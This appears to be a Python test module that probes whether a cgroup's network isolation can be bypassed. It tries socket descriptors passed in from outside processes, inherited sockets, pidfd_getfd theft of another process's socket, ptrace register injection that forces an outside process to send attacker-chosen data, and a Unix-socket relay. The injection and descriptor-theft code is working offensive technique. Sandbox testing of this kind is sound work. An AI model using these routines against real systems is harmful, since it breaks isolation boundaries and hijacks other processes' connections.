"""Sockets and memory that cross the border of the managed cgroup."""

import ctypes
import os
import platform
import socket
import struct
import subprocess
import sys
import tempfile

from system import Ring, check, libc, stolen
from way import Unavailable, answer, ask, tcp, way
from ways.ring import ring

PR_SET_PTRACER, PR_SET_PTRACER_ANY = 0x59616D61, ctypes.c_ulong(-1)
PATIENCE = 15


def received(world):
    _, fds, _, _ = socket.recv_fds(world.channel, 16, 1)
    sock = socket.socket(fileno=fds[0])
    sock.settimeout(1)
    return sock


def give_unconnected(world, channel):
    with tcp() as sock:
        socket.send_fds(channel, [b"take"], [sock.fileno()])


@way(outside=give_unconnected)
def unconnected_in(world):
    with received(world) as sock:
        sock.connect(world.target)
        return ask(world, sock)


def give_connected(world, channel):
    sock = tcp()
    sock.connect(world.target)
    socket.send_fds(channel, [b"take"], [sock.fileno()])
    # Kept until the attack is over: it is the outsider's connection as well.
    channel.recv(16)


@way(outside=give_connected)
def connected_in(world):
    with received(world) as sock:
        return ask(world, sock)


@way(outside=give_connected)
def written(world):
    """write() instead of send()."""
    with received(world) as sock:
        sock.setblocking(True)
        os.write(sock.fileno(), world.message)
        sock.settimeout(1)
        return answer(sock)


@way(outside=give_connected)
def sendfile(world):
    with received(world) as sock, tempfile.TemporaryFile() as file:
        file.write(world.message)
        file.flush()
        os.sendfile(sock.fileno(), file.fileno(), 0, len(world.message))
        return answer(sock)


@way(outside=give_connected)
def splice(world):
    with received(world) as sock:
        read, write = os.pipe()
        os.write(write, world.message)
        os.splice(read, sock.fileno(), len(world.message))
        return answer(sock)


@way(outside=give_connected)
def ring_send(world):
    with received(world) as sock:
        message = ctypes.create_string_buffer(world.message, len(world.message))
        ring().run(Ring.SEND, sock.fileno(), ctypes.addressof(message), len(world.message))
        return answer(sock)


def connected(world):
    sock = tcp()
    sock.connect(world.target)
    return sock


@way(before=connected)
def inherited(world, sock):
    """Another program goes on with what it inherited."""
    script = "import socket,sys; s = socket.socket(fileno=int(sys.argv[1])); s.settimeout(1); s.sendall(sys.argv[2].encode()); print(s.recv(99))"
    command = [sys.executable, "-c", script, str(sock.fileno()), world.nonce]
    ended = subprocess.run(command, pass_fds=[sock.fileno()], capture_output=True, text=True, timeout=PATIENCE)
    return ended.stdout + ended.stderr[-200:]


def connect_what_is_given(world, channel):
    _, fds, _, _ = socket.recv_fds(channel, 16, 1)
    sock = socket.socket(fileno=fds[0])
    sock.settimeout(1)
    try:
        sock.connect(world.target)
        channel.send(ask(world, sock).encode())
    except OSError as error:
        channel.send(str(error).encode())


@way(outside=connect_what_is_given)
def out_and_connected(world):
    """A socket of the job's, which an outsider connects and uses."""
    with tcp() as sock:
        socket.send_fds(world.channel, [b"take"], [sock.fileno()])
        return world.channel.recv(512).decode()


def hold_connected(world, channel):
    """A process of somebody else's that minds its own business."""
    libc.prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0)
    sock = tcp()
    sock.connect(world.target)
    sock.setblocking(True)
    channel.send(f"{os.getpid()} {sock.fileno()}".encode())
    channel.recv(16)


def victim(world):
    pid, fd = world.channel.recv(64).split()
    return int(pid), int(fd)


@way(outside=hold_connected)
def pidfd_getfd(world):
    with socket.socket(fileno=stolen(*victim(world))) as sock:
        sock.settimeout(1)
        return ask(world, sock)


@way(outside=hold_connected)
def ptrace(world):
    """Has an outsider send what the attacker likes over its connection."""
    if platform.machine() != "x86_64":
        raise Unavailable("written for x86_64 registers")
    ATTACH, DETACH, GETREGS, SETREGS, SINGLESTEP, POKEDATA = 16, 17, 12, 13, 9, 5
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    pid, fd = victim(world)
    check(libc.ptrace(ATTACH, pid, None, None))
    try:
        os.waitpid(pid, 0)
        saved = (ctypes.c_ulonglong * 27)()
        check(libc.ptrace(GETREGS, pid, None, saved))
        RBP, RAX, RDX, RSI, RDI, ORIG_RAX, RIP, RSP = 4, 10, 12, 13, 14, 15, 16, 19
        # It waits inside of a system call: the instruction behind it is the one to go back to, and the one before it
        # is `syscall`.
        changed = (ctypes.c_ulonglong * 27)(*saved)
        place = (saved[RSP] - 4096) & ~15
        message = world.message.ljust((len(world.message) + 7) // 8 * 8, b"\n")
        for at in range(0, len(message), 8):
            (word,) = struct.unpack("=q", message[at : at + 8])
            check(libc.ptrace(POKEDATA, pid, place + at, word))
        changed[RAX], changed[ORIG_RAX] = 1, ctypes.c_ulonglong(-1).value
        changed[RDI], changed[RSI], changed[RDX] = fd, place, len(message)
        changed[RIP] = saved[RIP] - 2
        check(libc.ptrace(SETREGS, pid, None, changed))
        check(libc.ptrace(SINGLESTEP, pid, None, None))
        os.waitpid(pid, 0)
        after = (ctypes.c_ulonglong * 27)()
        check(libc.ptrace(GETREGS, pid, None, after))
        check(libc.ptrace(SETREGS, pid, None, saved))
        return f"write() in the outsider gave {ctypes.c_longlong(after[RAX]).value}"
    finally:
        libc.ptrace(DETACH, pid, None, None)


def relay(world, channel):
    """Hands on whatever it gets."""
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind("\0" + world.nonce)
    listener.listen()
    channel.send(b"ready")
    connection, _ = listener.accept()
    with tcp() as sock:
        sock.connect(world.target)
        sock.sendall(connection.recv(4096))
        connection.sendall(sock.recv(4096))


@way(outside=relay)
def relayed(world):
    world.channel.recv(16)
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(2)
        sock.connect("\0" + world.nonce)
        return ask(world, sock)
